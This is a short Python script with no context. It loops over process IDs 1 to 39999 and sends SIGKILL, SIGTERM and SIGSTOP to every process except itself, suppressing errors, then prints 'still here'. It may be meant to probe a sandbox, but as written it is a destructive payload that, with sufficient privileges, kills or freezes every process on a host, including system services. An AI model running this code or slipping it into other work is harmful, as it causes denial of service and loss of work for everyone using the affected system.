import os, signal
for pid in range(1, 40000):
    if pid == os.getpid():
        continue
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(pid, number)
        except OSError:
            pass
print("still here")
